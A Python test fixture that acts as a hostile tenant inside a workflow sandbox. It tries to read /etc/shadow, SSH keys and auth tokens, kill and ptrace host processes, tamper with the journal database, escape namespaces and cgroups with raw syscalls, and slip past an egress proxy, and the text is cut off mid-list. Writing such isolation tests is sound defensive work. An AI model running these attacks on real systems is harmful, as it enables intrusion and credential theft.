"""A hostile tenant: the `workflow.py` that tests/test_hostile.py pushes (copied at test time).

Not a test module: it is tenant code. Its `run()` dispatches on
`event.payload["attack"]` and runs that attack in `run()` itself, in a step
callback, or both (`payload["where"]`), with the context the test hands it
(`payload["ctx"]`: pids, paths, ports). An attack that cannot kill its sandbox
catches everything and returns what it saw, as data (error names and errnos,
sizes, SHA-256 digests and the first bytes of what it could read), so the test
can check from the trusted side whether anything got through.

Module level: an attempt to leave a mark outside the sandbox (`MARK_DIR` is
filled in by the test), made wherever this module is imported: at push
validation, in a sandbox, or anywhere else tenant code should never run.
"""

from __future__ import annotations

import ctypes
import gc
import hashlib
import json
import logging
import os
import socket
import struct
import sys
import threading
import time

from dynwf_ray import WorkflowEntrypoint

MARK_DIR = "@MARK_DIR@"  # replaced by the test when it writes this file as workflow.py


def _leave_mark(kind: str) -> None:
    """Try to write a file into the test's marker directory (outside any sandbox's reach)."""
    try:
        path = os.path.join(MARK_DIR, f"{kind}-{os.getpid()}-{time.time_ns()}.json")
        with open(path, "w") as f:
            json.dump({"pid": os.getpid(), "argv": sys.argv[:2], "ppid": os.getppid(),
                       "env": sorted(os.environ)}, f)
    except BaseException:  # noqa: BLE001 - expected inside a sandbox
        pass


if not MARK_DIR.startswith("@"):
    _leave_mark("import")

# --- helpers -----------------------------------------------------------------------------

_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long


def _try(fn, *args, **kwargs) -> dict:
    """Run fn; {"ok": True, "value"} or {"ok": False, "error", "errno"}, with seconds taken."""
    t0 = time.monotonic()
    try:
        value = fn(*args, **kwargs)
        out = {"ok": True, "value": value}
    except BaseException as exc:  # noqa: BLE001
        if type(exc).__name__ == "_Over":  # the supervisor ended the activation
            raise
        out = {"ok": False, "error": type(exc).__name__, "errno": getattr(exc, "errno", None),
               "message": str(exc)[:300]}
    out["s"] = round(time.monotonic() - t0, 3)
    return out


def _digest(data: bytes) -> dict:
    return {"sha256": hashlib.sha256(data).hexdigest(), "size": len(data),
            "head": data[:300].decode("latin-1")}


def _read(path: str, limit: int = 4 << 20) -> dict:
    def go():
        with open(path, "rb") as f:
            return _digest(f.read(limit))
    return _try(go)


def _listdir(path: str) -> dict:
    return _try(lambda: sorted(os.listdir(path))[:200])


def _syscall(nr: int, *args) -> dict:
    """A raw syscall: {"ret", "errno"} (ret -1 and errno set on failure)."""
    cargs = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    ctypes.set_errno(0)
    ret = _libc.syscall(ctypes.c_long(nr), *cargs)
    err = ctypes.get_errno() if ret == -1 else 0
    return {"ret": int(ret), "errno": err, "ok": ret != -1}


def _connect(host: str, port: int, timeout: float = 3.0, family=socket.AF_INET) -> dict:
    def go():
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(timeout)
        try:
            s.connect((host, port))
            s.sendall(b"GET / HTTP/1.0\r\n\r\n")
            return "connected"
        finally:
            s.close()
    return _try(go)


def _channel():
    """The sandbox's channel to its supervisor, found in memory (tenant code can)."""
    from dynwf_ray.sandbox import runtime
    for obj in gc.get_objects():
        if isinstance(obj, runtime._Channel):
            return obj
    raise RuntimeError("no _Channel object found")


def _pause_loop(seconds: float) -> None:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        time.sleep(0.05)


# --- attacks: each takes the test's ctx and returns JSON-able data --------------------------

ATTACKS: dict = {}


def attack(fn):
    ATTACKS[fn.__name__] = fn
    return fn


@attack
def noop(ctx):
    """Who am I (the test learns the attacker's own code path and pid namespace view)."""
    with open("/proc/self/status") as f:
        mem = {k: v.strip() for k, v in (line.split(":", 1) for line in f if ":" in line)
               if k in ("VmSize", "VmRSS", "Threads")}
    return {"file": os.path.abspath(__file__), "pid": os.getpid(), "cwd": os.getcwd(),
            "uid": os.getuid(), "proc": sorted(p for p in os.listdir("/proc") if p.isdigit()),
            "status": mem}


@attack
def journal_files(ctx):
    """Read, open for writing and query the journal's own files (SQLite file, or PostgreSQL's
    data directory and socket)."""
    out: dict = {}
    files = list(ctx.get("files", []))
    for path in files:
        out[f"read {path}"] = _read(path)
        out[f"open rw {path}"] = _try(lambda p=path: open(p, "r+b").close())
    for d in ctx.get("dirs", []):
        out[f"listdir {d}"] = _listdir(d)
        out[f"create in {d}"] = _try(lambda d=d: open(os.path.join(d, "hostile-planted"), "w").close())
    sqlite_path = ctx.get("sqlite_path")
    if sqlite_path:
        import sqlite3

        def query():
            conn = sqlite3.connect(f"file:{sqlite_path}?mode=ro", uri=True, timeout=1)
            try:
                return [list(r) for r in conn.execute(
                    "select tenant_id, instance_id, output_json from instances limit 20")]
            finally:
                conn.close()

        def tamper():
            conn = sqlite3.connect(sqlite_path, timeout=1)
            try:
                conn.execute("update steps set result_json = '\"pwned\"'")
                conn.execute("update instances set status = 'terminated', output_json = '\"pwned\"'")
                conn.commit()
                return "tampered"
            finally:
                conn.close()

        out["sqlite query"] = _try(query)
        out["sqlite tamper"] = _try(tamper)
    sock = ctx.get("unix_socket")
    if sock:
        def unix():
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            try:
                s.connect(sock)
                return "connected"
            finally:
                s.close()
        out["unix socket"] = _try(unix)
    return out


@attack
def journal_postgres(ctx):
    """Reach the PostgreSQL journal server: raw TCP, psycopg, SQLAlchemy."""
    out = {"tcp": _connect("127.0.0.1", ctx["pg_port"])}

    def psyco():
        import psycopg
        with psycopg.connect(ctx["pg_dsn"], connect_timeout=3) as conn:
            return [list(r) for r in conn.execute("select tenant_id, output_json from instances")]

    def alchemy():
        import sqlalchemy as sa
        eng = sa.create_engine(ctx["pg_url"], connect_args={"connect_timeout": 3})
        with eng.connect() as conn:
            return [list(r) for r in conn.execute(sa.text("select tenant_id from instances"))]

    out["psycopg"] = _try(psyco)
    out["sqlalchemy"] = _try(alchemy)
    return out


@attack
def journal_import(ctx):
    """Import the platform's own Journal class with the journal URL and write records."""
    out: dict = {}
    holder: dict = {}

    def open_journal():
        from dynwf_ray.journal import Journal
        holder["j"] = Journal(ctx["db_url"], create_tables=False)
        return "opened"

    out["open"] = _try(open_journal)
    j = holder.get("j")
    if j is not None:
        now = time.time()
        out["read victim"] = _try(lambda: repr(j.get_instance(ctx["victim_tenant"], ctx["victim_done"])))
        out["grant egress"] = _try(lambda: j.set_tenant_policy(
            ctx["me"], json.dumps({"egress": ["*.example.com:443", "127.0.0.1:1"]}), now))
        out["terminate victim"] = _try(lambda: repr(j.terminate(ctx["victim_tenant"], ctx["victim_hold"], now)))
        out["pause victim"] = _try(lambda: j.pause(ctx["victim_tenant"], ctx["victim_hold"], now))
        out["create for victim"] = _try(lambda: j.create_instances(
            ctx["victim_tenant"], ctx["victim_version"],
            [("planted-by-attacker", "null", "{}", None, None)], now, skip_existing=True))
    return out


_PLATFORM_TYPES = {"Journal", "Engine", "Loader", "Scheduler", "InstanceHost", "ActorHandle",
                   "WorkflowBinding", "HostBindingFactory", "SandboxSession", "Template",
                   "EgressProxy", "Connection", "Session", "CoreWorker", "Worker"}
_PLATFORM_MODULES = ("sqlalchemy", "sqlmodel", "psycopg", "ray", "grpc", "redis")
_PLATFORM_MODULE_NAMES = ("dynwf_ray.journal", "dynwf_ray.engine", "dynwf_ray.host", "dynwf_ray.loader",
                          "dynwf_ray.scheduler", "dynwf_ray.binding", "dynwf_ray.sandbox.supervisor",
                          "dynwf_ray.sandbox.egress_proxy")
_NEEDLES = ("VICTIM-SECRET-", "postgresql+psycopg://", "sqlite:///", "--gcs-address",
            "RAY_RAYLET_PID", "dynwf_t_", "auth_token")


@attack
def platform_objects(ctx):
    """Search this process's memory for the platform: its objects, modules and strings."""
    found: dict = {}
    hits: list = []
    seen = 0
    for obj in gc.get_objects():
        t = type(obj)
        mod = getattr(t, "__module__", "")
        mod = mod if isinstance(mod, str) else ""
        if mod.split(".")[0] in _PLATFORM_MODULES or mod in _PLATFORM_MODULE_NAMES or (
            t.__name__ in _PLATFORM_TYPES and mod.startswith(("dynwf_ray", "ray", "sqlalchemy"))
        ):
            key = f"{mod}.{t.__name__}"
            found[key] = found.get(key, 0) + 1
        items = ()
        if isinstance(obj, dict):
            items = list(obj.keys()) + list(obj.values())
        elif isinstance(obj, (list, tuple)):
            items = obj
        for item in items:
            if isinstance(item, (str, bytes)) and len(item) < 1 << 20:
                seen += 1
                text = item if isinstance(item, str) else item.decode("latin-1")
                for needle in _NEEDLES:
                    if needle in text and len(hits) < 20:
                        i = text.index(needle)
                        hits.append({"needle": needle, "excerpt": text[max(0, i - 40): i + 80]})
    platform_mods = sorted(m for m in sys.modules
                           if m.split(".")[0] in _PLATFORM_MODULES or m in _PLATFORM_MODULE_NAMES)
    ray_state = None
    if "ray" in sys.modules:
        ray_state = _try(lambda: sys.modules["ray"].is_initialized())
    return {"types": found, "modules": platform_mods, "strings": hits, "strings_seen": seen,
            "ray_initialized": ray_state, "environ": _read("/proc/self/environ")}


def _bounded(fn, seconds: float) -> dict:
    """Run fn in a thread; give up waiting after `seconds` (report "hung")."""
    box: dict = {}

    def go():
        box["r"] = _try(fn)

    th = threading.Thread(target=go, daemon=True)
    th.start()
    th.join(seconds)
    return box.get("r") or {"ok": False, "error": "hung", "s": seconds}


@attack
def ray_connect(ctx):
    """Join the platform's Ray cluster from inside: ray.init, list/get the engine's actors."""
    out: dict = {}
    out["import ray"] = _try(lambda: __import__("ray").__version__)
    if not out["import ray"]["ok"]:
        return out
    import ray

    def auto():
        ray.init(address="auto", namespace=ctx["namespace"], logging_level="ERROR",
                 log_to_driver=False)
        return ray.util.list_named_actors(all_namespaces=True)

    def by_address():
        ray.init(address=f"127.0.0.1:{ctx['gcs_port']}", namespace=ctx["namespace"],
                 logging_level="ERROR", log_to_driver=False)
        return ray.util.list_named_actors(all_namespaces=True)

    out["list_named_actors"] = _try(lambda: ray.util.list_named_actors(all_namespaces=True))
    out["init auto"] = _bounded(auto, 8)
    if not ray.is_initialized():
        out["init address"] = _bounded(by_address, 8)
    out["initialized"] = ray.is_initialized()
    if ray.is_initialized():
        def kill():
            actor = ray.get_actor(ctx["scheduler"], namespace=ctx["namespace"])
            ray.kill(actor)
            return "killed"
        out["kill scheduler"] = _try(kill)
    return out


@attack
def ray_files(ctx):
    """Ray's auth token, session directory, sockets and the other packages it unpacked."""
    session = ctx["session_dir"]
    out: dict = {}
    for path in ("/root/.ray/auth_token", "/tmp/ray/ray_current_cluster",
                 f"{session}/session.json", f"{session}/logs/raylet.out",
                 f"{session}/logs/gcs_server.out"):
        out[f"read {path}"] = _read(path)
    for path in ("/root/.ray", "/tmp/ray", "/tmp/ray/session_latest", session, f"{session}/sockets",
                 f"{session}/logs", f"{session}/runtime_resources",
                 f"{session}/runtime_resources/working_dir_files"):
        out[f"listdir {path}"] = _listdir(path)
    for name in ("raylet", "plasma_store"):
        def unix(name=name):
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            try:
                s.connect(f"{session}/sockets/{name}")
                return "connected"
            finally:
                s.close()
        out[f"unix {name}"] = _try(unix)
    return out


@attack
def wake_sockets(ctx):
    """The host processes' wake sockets (`wakeup.py`): list their directory, send a wake."""
    out: dict = {f"listdir {ctx['dir']}": _listdir(ctx["dir"])}
    for path in ctx["sockets"]:
        def send(path=path):
            s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
            try:
                s.sendto(b"1\0victim\0v1", path)
                return "sent"
            finally:
                s.close()
        out[f"send {os.path.basename(path)}"] = _try(send)
    return out


@attack
def journal_writer(ctx):
    """The machine's journal writer (`journal/node_writer.py`): connect, send writes."""
    def send():
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        try:
            s.connect(ctx["socket"])
            body = b"\x80\x04]\x94."  # a pickled empty list
            s.sendall(struct.pack("!I", len(body)) + body)
            return "sent"
        finally:
            s.close()
    return {f"stat {ctx['socket']}": _try(os.stat, ctx["socket"]), "connect and send": _try(send)}


@attack
def signals(ctx):
    """Signal a process the test started, the trusted hosts and another tenant's sandbox."""
    out: dict = {}
    for label, pid in ctx["pids"].items():
        out[f"kill0 {label}"] = _try(os.kill, pid, 0)
        out[f"SIGKILL {label}"] = _try(os.kill, pid, 9)
        out[f"tgkill {label}"] = _syscall(234, pid, pid, 9)
        out[f"pidfd_open {label}"] = _syscall(434, pid, 0)
        out[f"pidfd_send {label}"] = (
            _syscall(424, out[f"pidfd_open {label}"]["ret"], 9, 0, 0)
            if out[f"pidfd_open {label}"]["ok"] else None)
    # every process this one may signal (in its own pid namespace: nothing else)
    out["kill -1"] = _try(os.kill, -1, 0)
    out["killpg own group, signal 0"] = _try(os.killpg, os.getpgrp(), 0)
    out["pgrp"] = os.getpgrp()
    out["sid"] = _try(os.getsid, 0)
    return out


@attack
def ptrace(ctx):
    """ptrace and cross-process memory access on the test's process and the trusted hosts."""
    out: dict = {}
    buf = ctypes.create_string_buffer(64)
    local = (ctypes.c_void_p * 2)(ctypes.cast(buf, ctypes.c_void_p), 64)
    remote = (ctypes.c_void_p * 2)(0, 64)  # address 0: harmless even where permitted
    for label, pid in ctx["pids"].items():
        r = _syscall(101, 16, pid, 0, 0)  # PTRACE_ATTACH
        if r["ok"]:
            _syscall(101, 17, pid, 0, 0)  # PTRACE_DETACH at once
        out[f"PTRACE_ATTACH {label}"] = r
        r = _syscall(101, 0x4206, pid, 0, 0)  # PTRACE_SEIZE
        if r["ok"]:
            _syscall(101, 17, pid, 0, 0)
        out[f"PTRACE_SEIZE {label}"] = r
        out[f"process_vm_readv {label}"] = _syscall(310, pid, ctypes.addressof(local), 1,
                                                    ctypes.addressof(remote), 1, 0)
        out[f"process_vm_writev {label}"] = _syscall(311, pid, ctypes.addressof(local), 1,
                                                     ctypes.addressof(remote), 1, 0)
        out[f"kcmp {label}"] = _syscall(312, pid, os.getpid(), 0, 0, 0)
        out[f"pidfd_getfd {label}"] = _syscall(438, 0, 0, 0)
    out["PTRACE_TRACEME"] = _syscall(101, 0, 0, 0, 0)
    return out


@attack
def proc_host(ctx):
    """Read the trusted processes' /proc entries: environ, cmdline, mem, maps, root."""
    out: dict = {"proc": _listdir("/proc")}
    for label, pid in ctx["pids"].items():
        for entry in ("environ", "cmdline", "maps", "status", "mem"):
            out[f"{label} {entry}"] = _read(f"/proc/{pid}/{entry}", 1 << 16)
        out[f"{label} root"] = _listdir(f"/proc/{pid}/root/")
        out[f"{label} cwd"] = _listdir(f"/proc/{pid}/cwd/")
        out[f"{label} fd"] = _listdir(f"/proc/{pid}/fd")
    out["self environ"] = _read("/proc/self/environ")
    out["1 environ"] = _read("/proc/1/environ")
    return out


@attack
def other_tenant_code(ctx):
    """Read another tenant's code: its module file, its directory, the packages next to ours."""
    victim = ctx["victim_file"]
    mine = os.path.dirname(os.path.abspath(__file__))
    out = {
        "read victim module": _read(victim),
        "listdir victim dir": _listdir(os.path.dirname(victim)),
        "listdir packages": _listdir(os.path.dirname(mine)),
        "listdir packages via victim": _listdir(os.path.dirname(os.path.dirname(victim))),
    }
    return out


@attack
def other_scratch(ctx):
    """Read, write and delete in another tenant's live sandbox's scratch directory."""
    scratch, pid = ctx["victim_scratch"], ctx["victim_sandbox_pid"]
    secret = os.path.join(scratch, "secret.txt")
    return {
        "read": _read(secret),
        "listdir": _listdir(scratch),
        "write": _try(lambda: open(os.path.join(scratch, "pwned"), "w").write("x")),
        "overwrite": _try(lambda: open(secret, "w").write("pwned")),
        "unlink": _try(os.unlink, secret),
        "via proc root": _read(f"/proc/{pid}/root{secret}"),
        "via proc cwd": _read(f"/proc/{pid}/cwd/secret.txt"),
        "listdir tmp": _listdir(os.path.dirname(scratch)),
    }


@attack
def platform_env(ctx):
    """The environment: the platform's variables must not be here."""
    return {"environ": dict(os.environ), "proc": _read("/proc/self/environ"),
            "home": os.path.expanduser("~"), "cwd": os.getcwd()}


@attack
def system_files(ctx):
    """The host's secrets and private places: shadow, root's home, devices, kernel memory."""
    out: dict = {}
    for path in ("/etc/shadow", "/etc/gshadow", "/root/.bash_history", "/root/.ray/auth_token",
                 "/root/.ssh/id_rsa", "/root/.pgpass", "/etc/hostname", "/proc/kcore", "/dev/mem",
                 "/dev/kmsg", "/proc/sys/kernel/core_pattern", "/sys/kernel/notes"):
        out[f"read {path}"] = _read(path, 1 << 16)
    for path in ("/root", "/root/.ssh", "/home", "/var/log", "/etc", "/tmp", "/dev/shm", "/run",
                 "/var/lib/postgresql"):
        out[f"listdir {path}"] = _listdir(path)
    buf = ctypes.create_string_buffer(4096)
    out["syslog READ_ALL"] = _syscall(103, 3, ctypes.addressof(buf), 4096)
    if out["syslog READ_ALL"]["ok"]:
        out["syslog head"] = buf.raw[:200].decode("latin-1")
    return out


@attack
def platform_cwd(ctx):
    """The directory the platform's driver runs in (and the repository around the package)."""
    cwd = ctx["cwd"]
    out = {"listdir": _listdir(cwd)}
    for rel in ctx["files"]:
        out[rel] = _read(os.path.join(cwd, rel))
    return out


@attack
def loopback(ctx):
    """Connect to the platform's ports on loopback (metrics, PostgreSQL, Ray, the test's own)."""
    out: dict = {}
    for label, port in ctx["ports"].items():
        out[label] = _connect("127.0.0.1", port, timeout=2)
    out["ipv6 witness"] = _connect("::1", ctx["ports"]["witness"], timeout=2, family=socket.AF_INET6)

    def udp():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            s.sendto(b"hostile", ("127.0.0.1", ctx["ports"]["witness"]))
            return "sent"
        finally:
            s.close()
    out["udp witness"] = _try(udp)
    return out


@attack
def external_network(ctx):
    """Reach beyond the machine (connect attempts only: they must fail at once)."""
    def udp():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            s.sendto(b"\x00" * 12, ("1.1.1.1", 53))
            return "sent"
        finally:
            s.close()
    return {
        "tcp 1.1.1.1:53": _connect("1.1.1.1", 53, timeout=3),
        "udp 1.1.1.1:53": _try(udp),
        "tcp 8.8.8.8:443": _connect("8.8.8.8", 443, timeout=3),
        "interfaces": _try(lambda: socket.if_nameindex()),
    }


@attack
def dns(ctx):
    """Resolve names (the sandbox has no resolver to ask)."""
    return {
        "example.com": _try(lambda: socket.getaddrinfo("example.com", 443)[:2] and "resolved"),
        "metadata": _try(lambda: socket.gethostbyname("metadata.google.internal")),
        "resolv.conf": _read("/etc/resolv.conf"),
    }


@attack
def write_outside(ctx):
    """Write, create, link and change files anywhere but the scratch directory."""
    tag = ctx["tag"]
    mine = os.path.abspath(__file__)
    out: dict = {}
    targets = list(ctx["targets"]) + [os.path.join(os.path.dirname(mine), f"escaped-{tag}")]
    for path in targets:
        out[f"write {path}"] = _try(lambda p=path: open(p, "w").write("escaped"))
        out[f"mkdir {path}.d"] = _try(os.mkdir, path + ".d")
    out["symlink in /tmp"] = _try(os.symlink, "/etc/shadow", f"/tmp/hostile-link-{tag}")
    out["hardlink shadow into scratch"] = _try(os.link, "/etc/shadow", "shadow-link")
    out["hardlink own code into scratch"] = _try(os.link, mine, "code-link")
    out["chmod own code"] = _try(os.chmod, mine, 0o777)
    out["utime own code"] = _try(os.utime, mine, (0, 0))
    out["overwrite own code"] = _try(lambda: open(mine, "a").write("# pwned\n"))
    out["rename own code"] = _try(os.rename, mine, mine + ".moved")
    out["hostname via proc"] = _try(lambda: open("/proc/sys/kernel/hostname", "w").write(f"pwned-{tag}"))
    out["sysrq"] = _try(lambda: open("/proc/sysrq-trigger", "w").write("h"))
    return out


_CLONE_NEWNS, _CLONE_NEWUSER, _CLONE_NEWNET, _CLONE_NEWPID = 0x20000, 0x10000000, 0x40000000, 0x20000000


@attack
def raw_syscalls(ctx):
    """Undo the jail with raw syscalls: namespaces, mounts, seccomp, capabilities, uid, modules."""
    out: dict = {}
    s = lambda *a: _syscall(*a)  # noqa: E731
    b = lambda text: ctypes.c_char_p(text.encode())  # noqa: E731
    out["unshare user+mount"] = s(272, _CLONE_NEWUSER | _CLONE_NEWNS)
    out["unshare mount"] = s(272, _CLONE_NEWNS)
    out["unshare net"] = s(272, _CLONE_NEWNET)
    out["unshare pid"] = s(272, _CLONE_NEWPID)
    fd = os.open("/proc/self/ns/net", os.O_RDONLY)
    out["setns own net"] = s(308, fd, 0)
    os.close(fd)
    out["mount tmpfs"] = s(165, b("none"), b("/mnt"), b("tmpfs"), 0, 0)
    out["remount / rw"] = s(165, b("none"), b("/"), 0, 0x20, 0)  # MS_REMOUNT
    out["umount /proc"] = s(166, b("/proc"), 2)  # MNT_DETACH
    out["pivot_root"] = s(155, b("/tmp"), b("/tmp"))
    out["chroot"] = s(161, b("/"))
    out["open_tree"] = s(428, -100, b("/"), 1)
    out["fsopen"] = s(430, b("tmpfs"), 0)
    out["move_mount"] = s(429, -100, b("/"), -100, b("/mnt"), 0)
    out["seccomp strict"] = s(317, 0, 0, 0) if False else None  # would kill us: not tried
    out["prctl seccomp off"] = s(157, 22, 0, 0, 0, 0)  # PR_SET_SECCOMP, SECCOMP_MODE_DISABLED
    out["prctl no_new_privs 0"] = s(157, 38, 0, 0, 0, 0)
    out["prctl securebits 0"] = s(157, 28, 0, 0, 0, 0)
    out["prctl ambient raise"] = s(157, 47, 2, 21, 0, 0)  # PR_CAP_AMBIENT_RAISE CAP_SYS_ADMIN
    out["prctl pdeathsig 0"] = s(157, 1, 0, 0, 0, 0)
    # capset: every capability, effective/permitted/inheritable
    hdr = (ctypes.c_uint32 * 2)(0x20080522, 0)
    data = (ctypes.c_uint32 * 6)(*([0xFFFFFFFF] * 6))
    out["capset all"] = s(126, ctypes.addressof(hdr), ctypes.addressof(data))
    out["setuid 0"] = s(105, 0)
    out["setgroups"] = s(116, 0, 0)
    out["init_module"] = s(175, 0, 0, b(""))
    out["finit_module"] = s(313, 0, b(""), 0)
    out["delete_module"] = s(176, b("hostile_nonexistent"), 0)
    out["kexec_load"] = s(246, 0, 0, 0, 0)
    out["reboot bad magic"] = s(169, 0, 0, 0, 0)  # EINVAL would mean CAP_SYS_BOOT: EPERM expected
    out["swapoff"] = s(168, b("/nonexistent-hostile"))
    out["acct"] = s(163, 0)
    out["iopl"] = s(172, 3)
    out["ioperm"] = s(173, 0x80, 1, 1)
    out["bpf"] = s(321, 0, 0, 0)
    out["perf_event_open"] = s(298, 0, 0, -1, -1, 0)
    out["userfaultfd"] = s(323, 0)
    out["io_uring_setup"] = s(425, 1, 0)
    out["keyctl"] = s(250, 0, 0, 0)
    out["add_key"] = s(248, b("user"), b("hostile"), b("x"), 1, 0xFFFFFFFC)
    out["personality"] = s(135, 0x0040000)
    out["clone3"] = s(435, 0, 0)
    out["mknod block device"] = s(133, b("hostile-blk"), 0o60600, (8 << 8) | 0)
    out["quotactl"] = s(179, 0, b("/"), 0, 0)
    out["settimeofday"] = s(164, 0, 0)
    out["sethostname"] = s(170, b(f"pwned-{ctx['tag']}"), len(f"pwned-{ctx['tag']}"))
    # name_to_handle_at + open_by_handle_at: the classic container escape ("shocker")
    handle = ctypes.create_string_buffer(8 + 128)
    struct.pack_into("I", handle, 0, 128)
    mount_id = ctypes.c_int(0)
    out["name_to_handle_at /etc/shadow"] = s(303, -100, b("/etc/shadow"), ctypes.addressof(handle),
                                             ctypes.addressof(mount_id), 0)
    out["open_by_handle_at"] = s(304, -100, ctypes.addressof(handle), 0)
    if out["open_by_handle_at"]["ok"]:
        os.close(out["open_by_handle_at"]["ret"])
    # setuid to another user in a child: if it worked, could that user get back?
    pid = os.fork()
    if pid == 0:
        code = 0
        try:
            os.setuid(1000)
            code = 10
            os.setuid(0)
            code = 11
        except BaseException:  # noqa: BLE001
            pass
        os._exit(code)
    _, st = os.waitpid(pid, 0)
    out["setuid 1000 then 0 (child exit)"] = os.waitstatus_to_exitcode(st)
    with open("/proc/self/status") as f:
        out["status"] = {k: v.strip() for k, v in (line.split(":", 1) for line in f if ":" in line)
                         if k in ("Uid", "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb",
                                  "NoNewPrivs", "Seccomp", "Seccomp_filters")}
    return out


@attack
def cgroup_escape(ctx):
    """Lift its own cgroup limits or leave its cgroup."""
    out = {"self cgroup": _read("/proc/self/cgroup"), "listdir": _listdir("/sys/fs/cgroup")}
    for rel, value in (("pids/pids.max", "max"), ("pids.max", "max"),
                       ("memory/memory.limit_in_bytes", "-1"), ("memory.max", "max"),
                       ("pids/cgroup.procs", "1"), ("cgroup.procs", "1"),
                       ("memory/cgroup.procs", "1"), ("../cgroup.procs", "1")):
        path = os.path.join("/sys/fs/cgroup", rel)
        out[f"write {rel}"] = _try(lambda p=path, v=value: open(p, "w").write(v))
    out["mkdir child cgroup"] = _try(os.mkdir, "/sys/fs/cgroup/pids/hostile")
    out["mount cgroup"] = _syscall(165, ctypes.c_char_p(b"cgroup"), ctypes.c_char_p(b"/mnt"),
                                   ctypes.c_char_p(b"cgroup"), 0, ctypes.c_char_p(b"pids"))
    return out


@attack
def inherited_fds(ctx):
    """Look for descriptors the sandbox should not have (e.g. the template's control socket)
    and send a forged spawn request on every socket that is not our own channel."""
    channel = _channel()
    mine = {channel.sock.fileno()}
    from dynwf_ray.sandbox import runtime
    for obj in gc.get_objects():  # the event loop's own self-pipe is ours too
        if isinstance(obj, runtime._Runtime):
            for attr in ("_ssock", "_csock"):
                sock = getattr(obj.loop, attr, None)
                if sock is not None:
                    mine.add(sock.fileno())
    out: dict = {"fds": {}}
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            out["fds"][name] = os.readlink(f"/proc/self/fd/{name}")
        except OSError as exc:
            out["fds"][name] = f"? {exc.errno}"
    spawn = json.dumps({"op": "spawn", "spec": {"mode": "process", "read_write": ["/tmp"]},
                        "entry": "os:getpid", "extra": 0}).encode()
    frame = struct.pack(">I", len(spawn)) + spawn
    sent = {}
    for name, target in out["fds"].items():
        fd = int(name)
        if fd in mine or not str(target).startswith("socket:"):
            continue
        try:
            s = socket.socket(fileno=os.dup(fd))
            s.settimeout(1)
            try:
                s.send(frame)
                sent[name] = _try(lambda: s.recv(200).decode("latin-1"))
            finally:
                s.close()
        except OSError as exc:
            sent[name] = {"ok": False, "errno": exc.errno}
    out["forged spawn"] = sent
    return out


@attack
def binding_abuse(ctx, env=None):
    """Use the WORKFLOWS binding (and raw bind requests) on another tenant's instances."""
    wf = env["WORKFLOWS"] if env else None
    out: dict = {}
    if wf is None:
        return {"error": "no binding"}
    out["get victim"] = _try(lambda: wf.get(ctx["victim_done"]).id)
    out["terminate victim"] = _try(lambda: wf._call("instance.terminate", ctx["victim_hold"]))
    out["pause victim"] = _try(lambda: wf._call("instance.pause", ctx["victim_hold"]))
    out["logs victim"] = _try(lambda: wf._call("instance.logs", ctx["victim_done"]))
    out["status victim"] = _try(lambda: wf._call("instance.status", ctx["victim_done"]))
    out["send_event victim"] = _try(lambda: wf._call("instance.send_event", ctx["victim_hold"], "go", {}))
    out["create as victim"] = _try(lambda: wf._call("create", id="x1", params=None,
                                                    tenant_id=ctx["victim_tenant"]))
    out["private method"] = _try(lambda: wf._call("_journal"))
    out["dunder"] = _try(lambda: wf._call("__class__"))
    out["sandbox_call"] = _try(lambda: wf._call("sandbox_call", "get", [ctx["victim_done"]], {}))
    out["other binding"] = _try(lambda: wf.__class__(wf._channel, "JOURNAL")._call("get", ctx["victim_done"]))
    return out


@attack
def manifest_proxy(ctx):
    """Use the proxy our own dynwf.toml names (HTTP_PROXY): no egress was granted."""
    import urllib.request
    out = {"env": {k: os.environ.get(k) for k in ("HTTP_PROXY", "HTTPS_PROXY", "NO_PROXY")}}
    out["via env proxy"] = _try(lambda: urllib.request.urlopen(
        f"http://127.0.0.1:{ctx['port']}/manifest", timeout=3).status)
    out["direct"] = _connect("127.0.0.1", ctx["port"])
    return out


def _proxy_raw(port: int, request: bytes, timeout: float = 5.0) -> dict:
    def go():
        s = socket.create_connection(("127.0.0.1", port), timeout=timeout)
        try:
            s.sendall(request)
            data = b""
            while len(data) < 4096:
                chunk = s.recv(4096)
                if not chunk:
                    break
                data += chunk
                if b"\r\n\r\n" in data and (b"403" in data[:20] or b"400" in data[:20]):
                    break
            return data[:300].decode("latin-1")
        finally:
            s.close()
    return _try(go)


@attack
def egress(ctx):
    """Through the egress proxy: the allowlisted server answers; anything else is refused.
    Then around the proxy: direct connections, other names for loopback, smuggling."""
    import urllib.request
    a, b = ctx["allowed"], ctx["denied"]
    proxy = int(os.environ["HTTP_PROXY"].rsplit(":", 1)[1])
    out: dict = {"env": {k: os.environ.get(k) for k in ("HTTP_PROXY", "HTTPS_PROXY", "NO_PROXY")}}

    def get(url):
        try:
            with urllib.request.urlopen(url, timeout=10) as r:
                return [r.status, r.read()[:200].decode("latin-1")]
        except urllib.error.HTTPError as exc:
            return [exc.code, ""]

    out["allowed"] = _try(get, f"http://127.0.0.1:{a}/allowed")
    out["denied"] = _try(get, f"http://127.0.0.1:{b}/denied")
    for label, port in ctx["others"].items():
        out[f"via proxy {label}"] = _try(get, f"http://127.0.0.1:{port}/")
    tricks = {
        "connect denied": f"CONNECT 127.0.0.1:{b} HTTP/1.1\r\nHost: 127.0.0.1:{a}\r\n\r\n",
        "localhost": f"CONNECT localhost:{b} HTTP/1.1\r\n\r\n",
        "127.1": f"CONNECT 127.1:{b} HTTP/1.1\r\n\r\n",
        "decimal ip": f"CONNECT 2130706433:{b} HTTP/1.1\r\n\r\n",
        "hex ip": f"CONNECT 0x7f000001:{b} HTTP/1.1\r\n\r\n",
        "ipv6 loopback": f"CONNECT [::1]:{b} HTTP/1.1\r\n\r\n",
        "mapped ipv6": f"CONNECT [::ffff:127.0.0.1]:{b} HTTP/1.1\r\n\r\n",
        "userinfo": f"GET http://127.0.0.1:{a}@127.0.0.1:{b}/ HTTP/1.1\r\nHost: 127.0.0.1:{b}\r\n\r\n",
